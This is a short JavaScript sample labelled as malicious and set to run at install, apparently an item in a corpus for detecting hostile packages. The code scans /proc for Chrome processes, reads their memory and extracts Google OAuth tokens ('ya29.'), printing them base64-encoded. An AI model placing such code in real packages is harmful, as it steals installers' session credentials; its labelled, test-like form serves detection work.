// when: install
// expect: malicious
// source: the technique of reading a running process's memory for secrets (CI runner memory dumps, 2025); written here against a browser process
const fs = require('fs');

function pidsOf(name) {
  return fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d)).filter((d) => {
    try { return fs.readFileSync('/proc/' + d + '/comm', 'utf8').trim() === name; } catch (e) { return false; }
  });
}

for (const pid of pidsOf('chrome')) {
  const fd = fs.openSync(`/proc/${pid}/mem`, 'r');
  const chunk = Buffer.alloc(4096);
  try { fs.readSync(fd, chunk, 0, chunk.length, 0x10000); } catch (e) {}
  const found = chunk.toString('latin1').match(/ya29\.[\w-]+/g);
  if (found) console.log(Buffer.from(found.join(',')).toString('base64'));
}
